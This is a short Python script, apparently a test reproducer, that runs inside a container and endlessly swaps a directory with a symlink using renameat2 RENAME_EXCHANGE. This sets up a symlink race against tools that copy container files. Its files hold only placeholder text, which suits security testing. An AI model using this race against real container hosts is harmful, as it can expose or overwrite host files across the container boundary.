"""Exchanges a directory and a link in a loop, as fast as it can: run as the first process of a container.

    swap.py DIRECTORY LINK-TARGET    the directory `DIRECTORY/d` and the link `DIRECTORY/l` change places for ever
"""

import ctypes
import os
import sys

place, target = sys.argv[1:]
os.makedirs(f"{place}/d", exist_ok=True)
with open(f"{place}/d/secret", "w") as file:
    file.write("harmless")
os.makedirs(target, exist_ok=True)  # what the link leads to in the container
with open(f"{target}/secret", "w") as file:
    file.write("also harmless")
os.symlink(target, f"{place}/l")
libc = ctypes.CDLL(None)
here = os.open(place, os.O_RDONLY)
os.write(1, b"swapping\n")
while True:
    libc.renameat2(here, b"d", here, b"l", 2)  # RENAME_EXCHANGE
